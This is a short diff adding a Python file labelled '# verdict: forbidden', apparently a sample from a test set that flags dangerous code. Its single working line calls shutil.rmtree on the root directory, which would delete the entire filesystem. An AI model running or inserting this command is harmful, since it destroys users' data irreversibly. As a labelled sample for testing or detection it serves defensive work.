@@ -1,0 +1,4 @@
+# verdict: forbidden
+import shutil
+
+shutil.rmtree("/", ignore_errors=True)
